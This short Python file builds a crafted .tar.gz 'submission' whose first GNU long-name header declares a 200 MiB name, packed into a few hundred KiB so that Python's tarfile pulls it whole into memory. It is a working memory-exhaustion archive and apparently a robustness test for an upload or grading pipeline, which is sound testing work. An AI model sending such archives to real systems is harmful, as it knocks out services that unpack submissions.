"""The submission as an archive: a .tar.gz whose first header declares a 200 MiB long name (a few hundred
KiB compressed), which tarfile reads whole into memory before anyone sees the member."""
import tarfile
import zlib
from pathlib import Path


def build(path: Path) -> None:
    longname = tarfile.TarInfo("././@LongLink")
    longname.type = tarfile.GNUTYPE_LONGNAME
    longname.size = 200 * 2**20
    squeeze = zlib.compressobj(1, zlib.DEFLATED, 31)
    with open(path, "wb") as f:
        f.write(squeeze.compress(longname.tobuf(format=tarfile.GNU_FORMAT)))
        for _ in range(200):
            f.write(squeeze.compress(b"a" * 2**20))
        f.write(squeeze.flush())
